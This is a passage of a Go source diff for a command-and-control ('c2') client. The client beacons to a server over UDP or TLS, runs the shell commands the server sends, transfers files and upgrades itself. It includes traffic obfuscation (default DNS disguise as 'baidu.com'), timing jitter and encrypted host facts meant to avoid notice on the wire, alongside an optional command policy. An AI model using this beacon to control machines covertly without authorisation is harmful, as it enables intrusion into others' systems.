@@ -1,63 +1,236 @@
 package c2
 
 import (
-	"bytes"
-	"encoding/gob"
+	"context"
+	"crypto/ed25519"
+	"crypto/tls"
+	"crypto/x509"
+	"encoding/binary"
+	"encoding/json"
+	"errors"
 	"fmt"
+	"math/rand/v2"
 	"net"
+	"os/exec"
+	"sync"
+	"sync/atomic"
 	"time"
 
 	"github.com/b1gcat/core/pki"
-	"github.com/b1gcat/core/shellexec"
 	"github.com/sirupsen/logrus"
 )
 
-// Client represents a UDP client
+// Client represents a c2 client reaching the server over UDP or TLS
 type Client struct {
 	config *Config
-	conn   *net.UDPConn
-	stopCh chan struct{}
+	addr   net.Addr
+
+	// conn is open while a UDP client runs, guarded by connMu
+	conn   net.PacketConn
+	connMu sync.RWMutex
+	// stream is the TLS connection, dialed on demand while the client runs, guarded by connMu
+	stream        net.Conn
+	streamWriteMu sync.Mutex
+	tlsConfig     *tls.Config
+	// runCtx is the context of the current run, nil while stopped, guarded by connMu
+	runCtx context.Context
+	// readers tracks the goroutines reading server messages
+	readers sync.WaitGroup
+
+	// cancel stops the current run, guarded by runMu
+	cancel context.CancelFunc
+	runMu  sync.Mutex
+
+	// policy restricts the commands the client runs, unrestricted if nil
+	policy *CommandPolicy
+
+	// probeAcks receives a signal for every probe the server confirmed
+	probeAcks chan struct{}
+	// binaryCodec is set while the server accepts the binary codec, as its last probe ack said
+	binaryCodec atomic.Bool
+	// activeJobs counts commands currently executing
+	activeJobs atomic.Int32
+	// restartPending is set by an upgrade that restarts the client once its result is sent
+	restartPending atomic.Bool
+	// upgraded is the result of the upgrade that restarted the client, sent again when it runs
+	upgraded atomic.Pointer[CommandResult]
+
+	// sentFacts are the host facts last sent to the server, guarded by factsMu
+	sentFacts *HostFacts
+	factsMu   sync.Mutex
+
+	// lastTimestamp keeps message timestamps strictly increasing
+	lastTimestamp int64
+	timestampMu   sync.Mutex
+
+	// keyMu guards config.Key and config.KeyEpoch during rotation
+	keyMu sync.RWMutex
+
+	fragments  *fragmenter
+	reassembly *reassembler
+
+	// Recently received jobs and their results, guarded by jobsMu
+	jobsMu     sync.Mutex
+	recentJobs map[uint64]*CommandResult
+	jobOrder   []uint64
+	running    map[uint64]context.CancelFunc
 }
 
-// NewClient creates a new UDP client with the given options
+const (
+	// truncatedSuffix marks command output cut to the maximum result size
+	truncatedSuffix = "\n[output truncated]"
+	// recentJobLimit is how many job results the client remembers for duplicates
+	recentJobLimit = 32
+	// probeAckTimeout is how long the client waits for the server to confirm a probe
+	probeAckTimeout = 5 * time.Second
+)
+
+// ErrClientRunning is returned when Run is called on a running client
+var ErrClientRunning = errors.New("client already running")
+
+// NewClient creates a new client with the given options
 func NewClient(opts ...Option) (*Client, error) {
 	config := &Config{
-		Key:      make([]byte, 16), // Default 16-byte key
-		Address:  "localhost:9001", // Default server address
-		Interval: 30 * time.Second, // Default 30 seconds interval
-		Protocol: ProtocolNone,     // Default no obfuscation
-		Domain:   "baidu.com",      // Default DNS domain
-		Logger:   logrus.New(),     // Default logger
+		Key:       make([]byte, 16), // Default 16-byte key
+		Address:   "localhost:9001", // Default server address
+		Interval:  30 * time.Second, // Default 30 seconds interval
+		Transport: TransportUDP,     // Default datagram transport
+		Codec:     CodecBinary,      // Default compact encoding where the server supports it
+		Protocol:  ProtocolNone,     // Default no obfuscation
+		Domain:    "baidu.com",      // Default DNS domain
+		Logger:    logrus.New(),     // Default logger
+
+		PacketTransport: UDPTransport{},   // Default real UDP sockets
+		KeepAlive:       30 * time.Second, // Default TCP keepalive period of the TLS transport
+
+		FragmentSize:      512,              // Default fragment payload size
+		MaxResultSize:     256 * 1024,       // Default 256 KiB result limit
+		ReassemblyTimeout: 30 * time.Second, // Default reassembly timeout
+
+		Jitter:           0.1,              // Default 10% spread of the probe interval
+		MaxBackoff:       10 * time.Minute, // Default longest interval while unreachable
+		FastPollInterval: 1 * time.Second,  // Default interval while a job is in flight
+
+		MaxTransferSize: 64 << 20, // Default 64 MiB file transfer limit
 	}
 
 	for _, opt := range opts {
 		opt(config)
 	}
 
+	// A rotated key persisted earlier takes precedence over the configured one
+	if config.KeyFile != "" {
+		key, epoch, ok, err := loadClientKey(config.KeyFile)
+		if err != nil {
+			return nil, fmt.Errorf("client: %w", err)
+		}
+		if ok {
+			config.Key, config.KeyEpoch = key, epoch
+		}
+	}
+
 	if len(config.Key) != 16 {
 		return nil, fmt.Errorf("client: key must be 16 bytes long")
 	}
 
+	if config.FragmentSize <= 0 || config.MaxResultSize <= 0 {
+		return nil, fmt.Errorf("client: fragment and result sizes must be positive")
+	}
+
+	if config.Interval <= 0 || config.FastPollInterval <= 0 || config.MaxBackoff <= 0 {
+		return nil, fmt.Errorf("client: probe intervals must be positive")
+	}
+
+	if config.Jitter < 0 || config.Jitter >= 1 {
+		return nil, fmt.Errorf("client: jitter must be in [0, 1)")
+	}
+
+	if config.Codec != CodecGob && config.Codec != CodecBinary {
+		return nil, fmt.Errorf("client: unknown codec %q", config.Codec)
+	}
+
+	var tlsConfig *tls.Config
+	switch config.Transport {
+	case TransportUDP:
+	case TransportTLS:
+		if config.Protocol != ProtocolNone {
+			return nil, fmt.Errorf("client: protocol obfuscation requires the UDP transport")
+		}
+		tlsConfig = &tls.Config{
+			MinVersion: tls.VersionTLS13,
+			RootCAs:    config.RootCAs,
+			ServerName: config.ServerName,
+		}
+		if config.Certificate != nil {
+			tlsConfig.Certificates = []tls.Certificate{*config.Certificate}
+		}
+	default:
+		return nil, fmt.Errorf("client: unknown transport %q", config.Transport)
+	}
+
 	if config.Identifier == "" {
 		config.Identifier = "default-client"
 	}
 
-	// Parse server address
-	addr, err := net.ResolveUDPAddr("udp", config.Address)
-	if err != nil {
-		return nil, fmt.Errorf("client: failed to resolve UDP address: %w", err)
+	if config.Version == "" {
+		config.Version = buildVersion()
 	}
 
-	conn, err := net.DialUDP("udp", nil, addr)
-	if err != nil {
-		return nil, fmt.Errorf("client: failed to create UDP connection: %w", err)
+	// Fail closed if a configured policy cannot be loaded
+	var policy *CommandPolicy
+	if config.PolicyFile != "" {
+		var err error
+		if policy, err = LoadCommandPolicy(config.PolicyFile); err != nil {
+			return nil, fmt.Errorf("client: %w", err)
+		}
+	}
+
+	// Load or create the identity used to sign messages
+	if config.SigningKey == nil {
+		var err error
+		if config.IdentityFile != "" {
+			config.SigningKey, err = LoadOrCreateIdentity(config.IdentityFile)
+		} else {
+			config.SigningKey, err = GenerateIdentity()
+			config.Logger.Warnf("client: using ephemeral identity %s, set an identity file to keep it across restarts",
+				Fingerprint(config.SigningKey.Public().(ed25519.PublicKey)))
+		}
+		if err != nil {
+			return nil, fmt.Errorf("client: %w", err)
+		}
+	}
+	if len(config.SigningKey) != ed25519.PrivateKeySize {
+		return nil, fmt.Errorf("client: signing key must be an Ed25519 private key")
 	}
 
-	return &Client{
-		config: config,
-		conn:   conn,
-		stopCh: make(chan struct{}),
-	}, nil
+	// Open the UDP socket, TLS connections are dialed when the client runs
+	var addr net.Addr
+	var conn net.PacketConn
+	if config.Transport == TransportUDP {
+		if config.PacketTransport == nil {
+			return nil, fmt.Errorf("client: packet transport must be set")
+		}
+		var err error
+		conn, addr, err = config.PacketTransport.Dial(config.Address)
+		if err != nil {
+			return nil, fmt.Errorf("client: %w", err)
+		}
+	}
+
+	c := &Client{
+		config:     config,
+		addr:       addr,
+		conn:       conn,
+		tlsConfig:  tlsConfig,
+		policy:     policy,
+		probeAcks:  make(chan struct{}, 1),
+		fragments:  newFragmenter(config.FragmentSize),
+		reassembly: newReassembler(config.MaxResultSize, config.ReassemblyTimeout),
+		recentJobs: make(map[uint64]*CommandResult),
+		running:    make(map[uint64]context.CancelFunc),
+	}
+	c.resumeUpgrade()
+	return c, nil
 }
 
 // WithClientKey sets the encryption key for the client
@@ -88,6 +261,55 @@ func WithClientInterval(interval time.Duration) Option {
 	}
 }
 
+// WithClientTransport sets how the client reaches the server
+func WithClientTransport(transport TransportType) Option {
+	return func(cfg *Config) {
+		cfg.Transport = transport
+	}
+}
+
+// WithClientCodec sets the preferred message encoding, CodecGob keeps to the legacy encoding
+func WithClientCodec(codec CodecType) Option {
+	return func(cfg *Config) {
+		cfg.Codec = codec
+	}
+}
+
+// WithClientPacketTransport sets the transport the UDP socket is opened with
+func WithClientPacketTransport(transport PacketTransport) Option {
+	return func(cfg *Config) {
+		cfg.PacketTransport = transport
+	}
+}
+
+// WithClientRootCAs sets the CAs the server certificate of the TLS transport is verified with
+func WithClientRootCAs(pool *x509.CertPool) Option {
+	return func(cfg *Config) {
+		cfg.RootCAs = pool
+	}
+}
+
+// WithClientServerName sets the name expected in the server certificate, the address host by default
+func WithClientServerName(name string) Option {
+	return func(cfg *Config) {
+		cfg.ServerName = name
+	}
+}
+
+// WithClientCertificate sets the certificate the client presents to servers requiring one
+func WithClientCertificate(cert tls.Certificate) Option {
+	return func(cfg *Config) {
+		cfg.Certificate = &cert
+	}
+}
+
+// WithClientKeepAlive sets the TCP keepalive period of the TLS transport
+func WithClientKeepAlive(period time.Duration) Option {
+	return func(cfg *Config) {
+		cfg.KeepAlive = period
+	}
+}
+
 // WithClientProtocol sets the protocol obfuscation type
 func WithClientProtocol(protocol ProtocolType) Option {
 	return func(cfg *Config) {
@@ -102,6 +324,20 @@ func WithClientDomain(domain string) Option {
 	}
 }
 
+// WithClientTags sets the labels the client advertises to the server, for example its role or site
+func WithClientTags(tags ...string) Option {
+	return func(cfg *Config) {
+		cfg.Tags = append(cfg.Tags, tags...)
+	}
+}
+
+// WithClientVersion sets the client version reported in the host facts
+func WithClientVersion(version string) Option {
+	return func(cfg *Config) {
+		cfg.Version = version
+	}
+}
+
 // WithClientLogger sets the logger for client output
 func WithClientLogger(logger *logrus.Logger) Option {
 	return func(cfg *Config) {
@@ -109,84 +345,428 @@ func WithClientLogger(logger *logrus.Logger) Option {
 	}
 }
 
-// Start begins the client's probe cycle
+// WithClientFragmentSize sets the largest payload sent in a single datagram
+func WithClientFragmentSize(size int) Option {
+	return func(cfg *Config) {
+		cfg.FragmentSize = size
+	}
+}
+
+// WithClientMaxResultSize sets the largest command result the client sends
+func WithClientMaxResultSize(size int) Option {
+	return func(cfg *Config) {
+		cfg.MaxResultSize = size
+	}
+}
+
+// WithClientKeyEpoch sets the epoch of the configured client key
+func WithClientKeyEpoch(epoch uint32) Option {
+	return func(cfg *Config) {
+		cfg.KeyEpoch = epoch
+	}
+}
+
+// WithClientKeyFile sets the file persisting rotated keys across restarts
+func WithClientKeyFile(path string) Option {
+	return func(cfg *Config) {
+		cfg.KeyFile = path
+	}
+}
+
+// WithClientSigningKey sets the Ed25519 key the client proves its identity with
+func WithClientSigningKey(key ed25519.PrivateKey) Option {
+	return func(cfg *Config) {
+		cfg.SigningKey = key
+	}
+}
+
+// WithClientIdentityFile sets the file holding the client identity, created if missing
+func WithClientIdentityFile(path string) Option {
+	return func(cfg *Config) {
+		cfg.IdentityFile = path
+	}
+}
+
+// WithClientJitter sets the fraction the probe interval is randomly spread by
+func WithClientJitter(fraction float64) Option {
+	return func(cfg *Config) {
+		cfg.Jitter = fraction
+	}
+}
+
+// WithClientMaxBackoff sets the longest probe interval while the server is unreachable
+func WithClientMaxBackoff(backoff time.Duration) Option {
+	return func(cfg *Config) {
+		cfg.MaxBackoff = backoff
+	}
+}
+
+// WithClientFastPollInterval sets the probe interval while a job is in flight
+func WithClientFastPollInterval(interval time.Duration) Option {
+	return func(cfg *Config) {
+		cfg.FastPollInterval = interval
+	}
+}
+
+// WithClientPolicyFile sets the local command policy the client enforces
+func WithClientPolicyFile(path string) Option {
+	return func(cfg *Config) {
+		cfg.PolicyFile = path
+	}
+}
+
+// WithClientLogFiles permits the log operations to read files matching the given path patterns
+func WithClientLogFiles(patterns ...string) Option {
+	return func(cfg *Config) {
+		cfg.LogFiles = append(cfg.LogFiles, patterns...)
+	}
+}
+
+// WithClientUpgrader sets how upgrade operations replace the client binary
+func WithClientUpgrader(upgrader Upgrader) Option {
+	return func(cfg *Config) {
+		cfg.Upgrader = upgrader
+	}
+}
+
+// WithClientRestart sets how the client restarts into its upgraded binary
+func WithClientRestart(restart func() error) Option {
+	return func(cfg *Config) {
+		cfg.Restart = restart
+	}
+}
+
+// WithClientTransferPaths permits files matching the given path patterns to be pushed and pulled
+func WithClientTransferPaths(patterns ...string) Option {
+	return func(cfg *Config) {
+		cfg.TransferPaths = append(cfg.TransferPaths, patterns...)
+	}
+}
+
+// WithClientMaxTransferSize sets the largest file the client pushes or pulls
+func WithClientMaxTransferSize(size int64) Option {
+	return func(cfg *Config) {
+		cfg.MaxTransferSize = size
+	}
+}
+
+// PublicKey returns the public half of the client identity for provisioning on the server
+func (c *Client) PublicKey() ed25519.PublicKey {
+	return c.config.SigningKey.Public().(ed25519.PublicKey)
+}
+
+// Start runs the client until Stop is called
 func (c *Client) Start() error {
-	defer c.conn.Close()
+	return c.Run(context.Background())
+}
+
+// Run probes the server until ctx is cancelled or Stop is called.
+// A stopped client can be run again.
+func (c *Client) Run(ctx context.Context) error {
+	ctx, cancel := context.WithCancel(ctx)
+	defer cancel()
+
+	c.runMu.Lock()
+	if c.cancel != nil {
+		c.runMu.Unlock()
+		return ErrClientRunning
+	}
+	c.cancel = cancel
+	c.runMu.Unlock()
+
+	defer func() {
+		c.runMu.Lock()
+		c.cancel = nil
+		c.runMu.Unlock()
+	}()
+
+	if err := c.connect(ctx); err != nil {
+		return err
+	}
+
+	// The result of the upgrade that restarted the client may not have reached the server
+	if res := c.upgraded.Swap(nil); res != nil {
+		if err := c.sendResult(*res); err != nil {
+			c.config.Logger.Debugf("Client failed to report upgrade job %d: %v", res.JobID, err)
+		}
+	}
+
+	c.probeLoop(ctx)
+
+	// Closing the connections unblocks the pending reads immediately
+	c.disconnect()
+	c.readers.Wait()
+	return nil
+}
+
+// Stop terminates the current run of the client
+func (c *Client) Stop() {
+	c.runMu.Lock()
+	defer c.runMu.Unlock()
+	if c.cancel != nil {
+		c.cancel()
+	}
+}
+
+// connect prepares a run, dialing the UDP socket if the client was stopped before.
+// TLS connections are dialed by the first message and redialed after failures.
+func (c *Client) connect(ctx context.Context) error {
+	c.connMu.Lock()
+	defer c.connMu.Unlock()
+
+	c.runCtx = ctx
+	if c.config.Transport != TransportUDP {
+		return nil
+	}
+
+	if c.conn == nil {
+		conn, addr, err := c.config.PacketTransport.Dial(c.config.Address)
+		if err != nil {
+			c.runCtx = nil
+			return fmt.Errorf("client: %w", err)
+		}
+		c.conn, c.addr = conn, addr
+	}
+
+	// Responses are read continuously so acknowledgements arrive while results are sent
+	conn := c.conn
+	c.readers.Add(1)
+	go func() {
+		defer c.readers.Done()
+		c.readLoop(conn)
+	}()
+	return nil
+}
+
+// disconnect closes the connections to the server
+func (c *Client) disconnect() {
+	c.connMu.Lock()
+	defer c.connMu.Unlock()
+
+	c.runCtx = nil
+	if c.conn != nil {
+		c.conn.Close()
+		c.conn = nil
+	}
+	if c.stream != nil {
+		c.stream.Close()
+		c.stream = nil
+	}
+}
+
+// probeLoop sends probes until ctx is done
+func (c *Client) probeLoop(ctx context.Context) {
+	failures := 0
 
 	for {
+		// Drop confirmations of earlier probes
 		select {
-		case <-c.stopCh:
-			return nil
+		case <-c.probeAcks:
 		default:
-			if err := c.sendProbe(); err != nil {
-				c.config.Logger.Debugf("Client failed to send probe: %v", err)
-			}
-			if err := c.receiveResponse(); err != nil {
-				c.config.Logger.Debugf("Client failed to receive response: %v", err)
+		}
+
+		start := time.Now()
+		reached := false
+		if err := c.sendProbe(); err != nil {
+			c.config.Logger.Debugf("Client failed to send probe: %v", err)
+		} else {
+			reached = c.waitProbeAck(ctx, min(probeAckTimeout, c.config.Interval))
+		}
+		if ctx.Err() != nil {
+			return
+		}
+
+		if reached {
+			if failures > 0 {
+				c.config.Logger.Infof("client: server reachable again after %d failed probes", failures)
 			}
-			time.Sleep(c.config.Interval)
+			failures = 0
+		} else {
+			// The facts may not have arrived, include them in the next probe
+			c.forgetFacts()
+			failures++
+		}
+
+		timer := time.NewTimer(c.nextDelay(failures) - time.Since(start))
+		select {
+		case <-ctx.Done():
+			timer.Stop()
+			return
+		case <-timer.C:
 		}
 	}
 }
 
-// Stop terminates the client
-func (c *Client) Stop() {
-	close(c.stopCh)
+// waitProbeAck reports whether the server confirmed the last probe within timeout
+func (c *Client) waitProbeAck(ctx context.Context, timeout time.Duration) bool {
+	timer := time.NewTimer(timeout)
+	defer timer.Stop()
+
+	select {
+	case <-c.probeAcks:
+		return true
+	case <-timer.C:
+		return false
+	case <-ctx.Done():
+		return false
+	}
+}
+
+// nextDelay returns how long to wait between the start of a probe and the next one
+func (c *Client) nextDelay(failures int) time.Duration {
+	delay := c.config.Interval
+	switch {
+	case failures > 0:
+		// Back off exponentially while the server is unreachable
+		for i := 1; i < failures && delay < c.config.MaxBackoff; i++ {
+			delay *= 2
+		}
+		delay = max(min(delay, c.config.MaxBackoff), c.config.Interval)
+	case c.activeJobs.Load() > 0:
+		// Poll quickly so follow-up jobs and key rotations arrive without delay
+		delay = min(c.config.FastPollInterval, delay)
+	}
+	return jitter(delay, c.config.Jitter)
+}
+
+// jitter spreads d uniformly by up to fraction in either direction
+func jitter(d time.Duration, fraction float64) time.Duration {
+	if fraction <= 0 {
+		return d
+	}
+	return time.Duration(float64(d) * (1 + fraction*(2*rand.Float64()-1)))
 }
 
 func (c *Client) sendProbe() error {
 	// Create probe message
+	key, epoch := c.currentKey()
 	msg := Message{
 		Type:       MessageTypeProbe,
 		Identifier: c.config.Identifier,
+		PublicKey:  c.PublicKey(),
+		KeyEpoch:   epoch,
+	}
+	if c.config.Codec == CodecBinary {
+		msg.Capabilities = CapabilityBinaryCodec
+	}
+
+	// Advertise tags and changed host facts encrypted, so they do not reveal the client on the wire
+	info := ProbeInfo{Tags: c.config.Tags}
+	if facts, changed := c.changedFacts(); changed {
+		info.Facts = &facts
+		info.Interval = c.config.Interval
+	}
+	if len(info.Tags) > 0 || info.Facts != nil {
+		plain, err := json.Marshal(info)
+		if err != nil {
+			return fmt.Errorf("client: failed to encode probe info: %w", err)
+		}
+		if msg.Payload, err = pki.Encrypt(key, plain); err != nil {
+			return fmt.Errorf("client: failed to encrypt probe info: %w", err)
+		}
+	}
+
+	if err := c.sendMessage(msg); err != nil {
+		return fmt.Errorf("client: failed to send probe message: %w", err)
+	}
+	return nil
+}
+
+// changedFacts collects the host facts and reports whether they differ from those last sent
+func (c *Client) changedFacts() (HostFacts, bool) {
+	facts := collectHostFacts(c.config.Version)
+
+	c.factsMu.Lock()
+	defer c.factsMu.Unlock()
+	if c.sentFacts != nil && *c.sentFacts == facts {
+		return facts, false
 	}
+	c.sentFacts = &facts
+	return facts, true
+}
 
-	// Encode message
-	var buf bytes.Buffer
-	en := gob.NewEncoder(&buf)
-	if err := en.Encode(msg); err != nil {
-		return fmt.Errorf("client: failed to encode probe message: %w", err)
+// forgetFacts makes the next probe carry the host facts again
+func (c *Client) forgetFacts() {
+	c.factsMu.Lock()
+	c.sentFacts = nil
+	c.factsMu.Unlock()
+}
+
+// sendMessage sends msg to the server, fragmenting large payloads
+func (c *Client) sendMessage(msg Message) error {
+	// Streams deliver whole messages in order, only datagrams need fragments
+	if c.config.Transport == TransportTLS {
+		return c.writeMessage(msg)
+	}
+	return c.fragments.send(msg, c.writeMessage)
+}
+
+// writeMessage signs, encodes, wraps and writes a single message
+func (c *Client) writeMessage(msg Message) error {
+	c.signMessage(&msg)
+
+	// Encode message, in gob until the server accepted the binary codec
+	codec := CodecGob
+	if c.binaryCodec.Load() {
+		codec = CodecBinary
+	}
+	data, err := encodeMessage(msg, codec)
+	if err != nil {
+		return fmt.Errorf("client: failed to encode message: %w", err)
 	}
 
 	// Apply protocol obfuscation if configured
-	data := buf.Bytes()
 	if c.config.Protocol != ProtocolNone {
 		wrapper := GetProtocolWrapper(c.config.Protocol, c.config.Domain)
 		if wrapper != nil {
-			var err error
 			data, err = wrapper.Wrap(data)
 			if err != nil {
-				return fmt.Errorf("client: failed to wrap probe message: %w", err)
+				return fmt.Errorf("client: failed to wrap message: %w", err)
 			}
 		}
 	}
 
-	// Send message
-	_, err := c.conn.Write(data)
-	if err != nil {
-		return fmt.Errorf("client: failed to write probe message: %w", err)
+	if c.config.Transport == TransportTLS {
+		return c.writeStream(data)
 	}
 
+	// Send message
+	c.connMu.RLock()
+	conn, addr := c.conn, c.addr
+	c.connMu.RUnlock()
+	if conn == nil {
+		return fmt.Errorf("client: not running")
+	}
+	if _, err := conn.WriteTo(data, addr); err != nil {
+		return fmt.Errorf("client: failed to write message: %w", err)
+	}
 	return nil
 }
 
-func (c *Client) receiveResponse() error {
-	// Set read deadline
-	c.conn.SetReadDeadline(time.Now().Add(5 * time.Second))
+// readLoop reads and dispatches server messages until conn is closed
+func (c *Client) readLoop(conn net.PacketConn) {
+	buf := make([]byte, maxDatagramSize)
 
-	// Buffer for response
-	buf := make([]byte, 1024)
-	n, err := c.conn.Read(buf)
-	if err != nil {
-		if netErr, ok := err.(net.Error); ok && netErr.Timeout() {
-			// Timeout is expected if no command is pending
-			return nil
+	for {
+		n, _, err := conn.ReadFrom(buf)
+		if err != nil {
+			if errors.Is(err, net.ErrClosed) {
+				return
+			}
+			c.config.Logger.Debugf("Client failed to receive response: %v", err)
+			continue
+		}
+
+		// Copy the datagram, buf is reused by the next read
+		data := append([]byte(nil), buf[:n]...)
+		if err := c.handleResponse(data); err != nil {
+			c.config.Logger.Debugf("Client failed to handle response: %v", err)
 		}
-		return fmt.Errorf("client: failed to read response: %w", err)
 	}
+}
 
+func (c *Client) handleResponse(data []byte) error {
 	// Apply protocol deobfuscation if configured
-	data := buf[:n]
 	if c.config.Protocol != ProtocolNone {
 		wrapper := GetProtocolWrapper(c.config.Protocol, c.config.Domain)
 		if wrapper != nil {
@@ -199,16 +779,61 @@ func (c *Client) receiveResponse() error {
 	}
 
 	// Decode message
-	var msg Message
-	dec := gob.NewDecoder(bytes.NewReader(data))
-	if err := dec.Decode(&msg); err != nil {
+	msg, _, err := decodeMessage(data)
+	if err != nil {
 		return fmt.Errorf("client: failed to decode response: %w", err)
 	}
 
+	// Reassemble fragmented messages, acknowledging every fragment
+	if msg.FragmentCount > 0 {
+		ack := Message{
+			Type:          MessageTypeAck,
+			Identifier:    c.config.Identifier,
+			MessageID:     msg.MessageID,
+			FragmentIndex: msg.FragmentIndex,
+		}
+		if err := c.writeMessage(ack); err != nil {
+			return err
+		}
+		payload, complete, err := c.reassembly.add(msg, time.Now())
+		if err != nil || !complete {
+			return err
+		}
+		msg.Payload = payload
+	}
+
 	// Handle message based on type
 	switch msg.Type {
 	case MessageTypeCommand:
-		return c.handleCommand(msg.Payload)
+		// Run commands in the background so acknowledgements keep flowing
+		go func() {
+			if err := c.handleCommand(msg.Payload); err != nil {
+				c.config.Logger.Debugf("Client failed to handle command: %v", err)
+			}
+		}()
+		return nil
+	case MessageTypeProbeAck:
+		c.binaryCodec.Store(c.config.Codec == CodecBinary && msg.Capabilities&CapabilityBinaryCodec != 0)
+		if len(msg.Payload) > 0 && msg.Payload[0]&probeAckWantFacts != 0 {
+			c.forgetFacts()
+		}
+		select {
+		case c.probeAcks <- struct{}{}:
+		default:
+		}
+		return nil
+	case MessageTypeRotateKey:
+		return c.handleRotateKey(msg.Payload)
+	case MessageTypeCancel:
+		go func() {
+			if err := c.handleCancel(msg.Payload); err != nil {
+				c.config.Logger.Debugf("Client failed to handle cancel: %v", err)
+			}
+		}()
+		return nil
+	case MessageTypeAck:
+		c.fragments.ack(msg.MessageID, msg.FragmentIndex)
+		return nil
 	default:
 		return fmt.Errorf("client: unknown message type: %d", msg.Type)
 	}
@@ -216,82 +841,326 @@ func (c *Client) receiveResponse() error {
 
 func (c *Client) handleCommand(encryptedCmd []byte) error {
 	// Decrypt command
-	decryptedCmd, err := pki.Decrypt(c.config.Key, encryptedCmd)
+	key, _ := c.currentKey()
+	decryptedCmd, err := pki.Decrypt(key, encryptedCmd)
 	if err != nil {
 		return fmt.Errorf("client: failed to decrypt command: %w", err)
 	}
+	var request CommandRequest
+	if err := json.Unmarshal(decryptedCmd, &request); err != nil {
+		return fmt.Errorf("client: failed to decode command: %w", err)
+	}
+
+	// The server re-sends jobs whose status was lost, never run them twice
+	result, seen := c.recordJob(request.JobID)
+	if seen {
+		if result == nil {
+			return c.sendStatus(request.JobID, JobStateRunning)
+		}
+		return c.sendResult(*result)
+	}
+
+	// Probe quickly while the command runs
+	c.activeJobs.Add(1)
+	defer c.activeJobs.Add(-1)
 
-	cmdStr := string(decryptedCmd)
 	// Logging handled through configured logger
-	c.config.Logger.Debugf("Client received command: %s", cmdStr)
+	c.config.Logger.Debugf("Client received job %d: %s", request.JobID, request.Command)
+	if err := c.sendStatus(request.JobID, JobStateRunning); err != nil {
+		c.config.Logger.Debugf("Client failed to report job %d running: %v", request.JobID, err)
+	}
 
-	// Execute command with 10-second timeout
-	result := "result:"
-	var output *string
-	var execErr error
+	res := CommandResult{JobID: request.JobID}
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	c.trackJob(request.JobID, cancel)
 
-	// Create a channel to receive the execution result
-	done := make(chan struct{})
+	// Enforce the local policy before anything runs
+	if err := c.policy.check(request.Command); err != nil {
+		c.config.Logger.Warnf("client: refused job %d: %v", request.JobID, err)
+		res.ExitCode = -1
+		res.Violation = err.Error()
+	} else if IsOperation(request.Command) {
+		c.runOperation(ctx, request, &res)
+	} else {
+		c.runCommand(ctx, request, &res)
+	}
 
-	go func() {
-		defer close(done)
-		output, execErr = shellexec.Exec(cmdStr)
-	}()
+	// Keep the result within the policy and the size the server accepts
+	res.Output = c.policy.limitOutput(res.Output)
+	fitResult(&res, c.config.MaxResultSize)
 
-	// Wait for execution to complete or timeout
-	select {
-	case <-done:
-		// Command completed within timeout
-		if execErr != nil {
-			output = &result
-			*output += "Command execution error: " + execErr.Error() + " (timeout: 10s)"
-		} else {
-			*output = result + *output
-		}
-	case <-time.After(10 * time.Second):
-		// Command timed out
-		output = &result
-		*output += "Command execution timed out after 10 seconds"
+	c.finishJob(res)
+	if err := c.sendResult(res); err != nil {
+		return err
+	}
+	if c.restartPending.CompareAndSwap(true, false) {
+		c.restart(res)
 	}
+	return nil
+}
+
+// runCommand executes the command of a job within its timeout, streaming its output
+// while it runs, and records the outcome in res
+func (c *Client) runCommand(ctx context.Context, request CommandRequest, res *CommandResult) {
+	timeout := c.jobTimeout(request)
+	ctx, cancel := context.WithTimeout(ctx, timeout)
+	defer cancel()
 
-	// Encrypt result
-	encryptedResult, err := pki.Encrypt(c.config.Key, []byte(*output))
+	cmd, err := shellCommand(ctx, request.Command, c.policy.runAs())
 	if err != nil {
-		return fmt.Errorf("client: failed to encrypt result: %w", err)
+		res.ExitCode = -1
+		res.Violation = err.Error()
+		return
 	}
 
-	// Send result back
-	resultMsg := Message{
-		Type:       MessageTypeResult,
-		Identifier: c.config.Identifier,
-		Payload:    encryptedResult,
+	output := newOutputCollector(c.config.MaxResultSize)
+	cmd.Stdout = output.writer(0)
+	cmd.Stderr = output.writer(1)
+
+	execErr := cmd.Start()
+	if execErr == nil {
+		done := make(chan struct{})
+		streamed := make(chan struct{})
+		go func() {
+			defer close(streamed)
+			c.streamOutput(request.JobID, output, done)
+		}()
+		execErr = cmd.Wait()
+		close(done)
+		<-streamed
 	}
 
-	// Encode message
-	var buf bytes.Buffer
-	en := gob.NewEncoder(&buf)
-	if err := en.Encode(resultMsg); err != nil {
-		return fmt.Errorf("client: failed to encode result message: %w", err)
+	stdout := output.output(0)
+	switch {
+	case interrupted(ctx, timeout, res):
+		// Command was killed, keep what it wrote until then
+		res.Output = stdout
+	case execErr != nil:
+		res.ExitCode = -1
+		var exitErr *exec.ExitError
+		if errors.As(execErr, &exitErr) {
+			res.ExitCode = exitErr.ExitCode()
+		}
+		if stderr := output.output(1); stderr != "" {
+			stdout += "\n" + stderr
+		}
+		res.Error = fmt.Sprintf("Command execution error: %s:%v", stdout, execErr)
+	default:
+		res.Output = stdout
 	}
+}
 
-	// Apply protocol obfuscation if configured
-	data := buf.Bytes()
-	if c.config.Protocol != ProtocolNone {
-		wrapper := GetProtocolWrapper(c.config.Protocol, c.config.Domain)
-		if wrapper != nil {
-			var err error
-			data, err = wrapper.Wrap(data)
-			if err != nil {
-				return fmt.Errorf("client: failed to wrap result message: %w", err)
-			}
+// jobTimeout returns how long a job may run, the runtime limit of the policy unless
+// the job asks for less
+func (c *Client) jobTimeout(request CommandRequest) time.Duration {
+	timeout := c.policy.runtime()
+	if request.Timeout > 0 && request.Timeout < timeout {
+		return request.Timeout
+	}
+	return timeout
+}
+
+// interrupted records in res why ctx ended a job early and reports whether it did
+func interrupted(ctx context.Context, timeout time.Duration, res *CommandResult) bool {
+	switch ctx.Err() {
+	case context.DeadlineExceeded:
+		res.ExitCode = -1
+		res.TimedOut = true
+		res.Error = fmt.Sprintf("Command execution timed out after %s", timeout)
+	case context.Canceled:
+		res.ExitCode = -1
+		res.Cancelled = true
+		res.Error = "Command cancelled by the server"
+	default:
+		return false
+	}
+	return true
+}
+
+// fitResult truncates the output so the encoded result stays within limit bytes
+func fitResult(res *CommandResult, limit int) {
+	if len(res.Error) > limit/2 {
+		res.Error = res.Error[:limit/2] + truncatedSuffix
+	}
+
+	if data, err := json.Marshal(res); err != nil || len(data) <= limit {
+		return
+	}
+
+	// Escaping makes the encoded size differ from the raw size, so search for
+	// the longest prefix of the output that still fits
+	output := res.Output
+	lo, hi := 0, len(output)
+	for lo < hi {
+		mid := (lo + hi + 1) / 2
+		res.Output = output[:mid] + truncatedSuffix
+		if data, _ := json.Marshal(res); len(data) <= limit {
+			lo = mid
+		} else {
+			hi = mid - 1
